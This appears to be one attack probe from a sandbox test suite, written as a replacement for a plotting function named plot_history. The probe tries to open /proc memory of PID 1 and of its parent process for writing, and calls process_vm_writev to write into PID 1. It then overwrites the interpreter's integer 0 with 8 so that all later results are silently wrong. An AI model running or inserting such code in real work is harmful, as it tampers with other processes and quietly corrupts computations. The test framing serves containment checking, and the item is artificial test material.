# attack: 37
# form: writes into memory: of the processes around it through /proc and by call, of its own interpreter with `memmove`
# replaces: plot_history
# base: other_curves
# costs: plot_history
# denies: memory of process 1
# denies: process_vm_writev
# allows: own memory
def plot_history(history):
    import ctypes

    print("ran")
    for pid in {1, os.getppid()} - {0}:
        try:
            with open(f"/proc/{pid}/mem", "r+b"):
                print(f"reached: memory of process {pid}")
        except OSError:
            print("denied: memory of process 1")
    libc = ctypes.CDLL(None, use_errno=True)
    word = ctypes.create_string_buffer(b"atk-atk-", 8)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(word), 8)
    got = libc.process_vm_writev(1, vector, ctypes.c_ulong(1), vector, ctypes.c_ulong(1), ctypes.c_ulong(0))
    print("denied: process_vm_writev" if got < 0 else "reached: process_vm_writev")
    ctypes.memmove(ctypes.addressof(word), b"written!", 8)
    print("allowed: own memory" if word.raw == b"written!" else "refused: own memory")
    # From here on 0 is 8: whatever this process counts, compares or sends is wrong.
    ctypes.memmove(id(0) + 24, id(8) + 24, 4)
    return plt.figure()
